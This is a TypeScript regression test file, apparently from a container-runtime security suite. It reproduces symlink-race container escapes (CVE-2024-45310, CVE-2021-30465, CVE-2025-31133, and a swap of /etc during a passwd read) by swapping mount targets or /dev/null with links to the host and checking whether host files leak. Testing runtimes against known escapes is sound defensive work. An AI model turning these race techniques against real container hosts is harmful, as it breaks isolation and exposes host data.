// Needs a static busybox and python3; volumes whose files change while a container is made, by somebody who shares them.
import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { release } from 'node:os'
import { join } from 'node:path'
import { makeDirectory } from '../fixtures/as.ts'
import { type Target, testAttack } from '../fixtures/attack.ts'
import type { Config } from '../fixtures/config.ts'
import { startSwapping } from '../fixtures/swapper.ts'
import { placeVictim } from '../fixtures/victim.ts'
import { succeeded } from '../fixtures/world.ts'

let volumes = 0

/** A directory that another container could have as well. */
function makeVolume({ world: { identity } }: Target): string {
  const path = join(identity.home, `volume-${++volumes}`)
  makeDirectory(path, 0o755, identity.user)
  return path
}

const bindOf = (volume: string, destination: string) => ({
  destination,
  type: 'bind',
  source: volume,
  options: ['rbind', 'rw'],
})

const tmpfsOn = (destination: string) => ({ destination, type: 'tmpfs', source: 'tmpfs' })

/** Each attempt is a few containers while the names are swapped: starting the swapper takes as long as one. */
const CONTAINERS = 4

testAttack({
  class: 'CVE-2024-45310',
  title: 'directories for a mount are made while their parent is swapped with a link to the host',
  needs: ['python3'],
  tries: { ours: 1, theirs: 6 },
  attempt: async (target) => {
    const victim = placeVictim(target.world)
    const volume = makeVolume(target)
    makeDirectory(join(volume, 'place'), 0o755, target.world.identity.user)
    symlinkSync(victim.path, join(volume, 'link'))
    const bundle = await target.bundle((config) => {
      config.process.args = ['true']
      config.mounts.push(bindOf(volume, '/mnt'), tmpfsOn('/mnt/place/a/b/c/d'))
    })
    await using _ = await startSwapping(target.world, join(volume, 'place'), join(volume, 'link'))
    for (let round = 0; round < CONTAINERS; round++) {
      await target.run(bundle)
      if (existsSync(join(victim.path, 'a'))) return 'directories on the host'
    }
    return undefined
  },
})

testAttack({
  class: 'CVE-2021-30465',
  title: 'the target of a mount is swapped with a link to the host',
  needs: ['python3'],
  tries: { ours: 1, theirs: 3 },
  attempt: async (target) => {
    const victim = placeVictim(target.world)
    const volume = makeVolume(target)
    makeDirectory(join(volume, 'place'), 0o755, target.world.identity.user)
    symlinkSync('/', join(volume, 'link'))
    const hidden = victim.path.slice(1)
    const bundle = await target.bundle((config) => {
      config.process.args = ['sh', '-c', `cat /${hidden}/secret`]
      config.mounts.push(bindOf(volume, '/mnt'), bindOf(volume, '/mnt/place'))
    })
    await using _ = await startSwapping(target.world, join(volume, 'place'), join(volume, 'link'))
    for (let round = 0; round < CONTAINERS; round++) {
      const { stdout } = await target.run(bundle)
      if (/secret of the host/.test(stdout)) return stdout
    }
    return undefined
  },
})

/** The image's own /dev on a volume, so that the nodes in it can be swapped. */
function devOnVolume(config: Config, volume: string): void {
  config.mounts = config.mounts.filter(({ destination }) => !/^\/dev\b/.test(destination))
  config.mounts.push(bindOf(volume, '/dev'))
}

testAttack({
  class: 'CVE-2025-31133',
  title: '/dev/null is swapped with a link, and masked paths show where it leads',
  needs: ['python3'],
  tries: { ours: 1, theirs: 8 },
  attempt: async (target) => {
    const volume = makeVolume(target)
    writeFileSync(join(volume, 'null'), '', { mode: 0o666 })
    symlinkSync('/proc/sys/kernel/osrelease', join(volume, 'link'))
    const bundle = await target.bundle((config) => {
      devOnVolume(config, volume)
      config.linux.maskedPaths = ['/proc/uptime', '/proc/keys', '/proc/timer_list', '/proc/loadavg']
      config.process.args = ['sh', '-c', `cat ${config.linux.maskedPaths.join(' ')}`]
    })
    await using _ = await startSwapping(target.world, join(volume, 'null'), join(volume, 'link'))
    for (let round = 0; round < CONTAINERS; round++) {
      const { stdout } = await target.run(bundle)
      if (stdout.includes(release())) return stdout
    }
    return undefined
  },
})

testAttack({
  class: 'CVE-2025-31133',
  title: '/dev/null of the image is a link or a file from the start',
  attempt: async (target) => {
    for (const lay of [
      (path: string) => symlinkSync('/proc/sys/kernel/osrelease', path),
      (path: string) => writeFileSync(path, release()),
    ]) {
      const bundle = await target.bundle((config) => {
        config.mounts = config.mounts.filter(({ destination }) => !/^\/dev\b/.test(destination))
        config.linux.maskedPaths = ['/proc/uptime', '/etc/passwd']
        config.process.args = ['sh', '-c', 'cat /proc/uptime /etc/passwd']
      })
      mkdirSync(join(bundle.rootfs, 'dev'), { recursive: true })
      lay(join(bundle.rootfs, 'dev/null'))
      const { stdout } = await target.run(bundle)
      if (stdout.trim() !== '') return stdout
      rmSync(join(bundle.rootfs, 'dev/null'), { force: true })
    }
    return undefined
  },
})

testAttack({
  class: 'the user database',
  title: '/etc is swapped with a link to a directory of the host while its passwd file is read',
  needs: ['python3'],
  tries: { ours: 1, theirs: 1 },
  attempt: async (target) => {
    const { world, call } = target
    const bundle = await target.bundle((config) => {
      config.process.args = ['sleep', '1000']
      config.process.env = ['PATH=/bin']
    })
    const outside = `outside-${++volumes}`
    world.file(`${outside}/passwd`, 'root:x:0:0::/home/of/the/host:/bin/sh\n')
    symlinkSync(join(world.identity.home, outside), join(bundle.rootfs, 'link'))
    const id = `swapped-${volumes}`
    succeeded(await call(['run', '--detach', '--bundle', bundle.path, id]))
    const homes = new Set<string>()
    {
      await using _ = await startSwapping(world, join(bundle.rootfs, 'etc'), join(bundle.rootfs, 'link'))
      for (let round = 0; round < 8; round++) homes.add((await call(['exec', id, 'sh', '-c', 'echo $HOME'])).stdout)
    }
    succeeded(await call(['delete', '--force', id]))
    return [...homes].find((home) => home.includes('of/the/host'))
  },
})
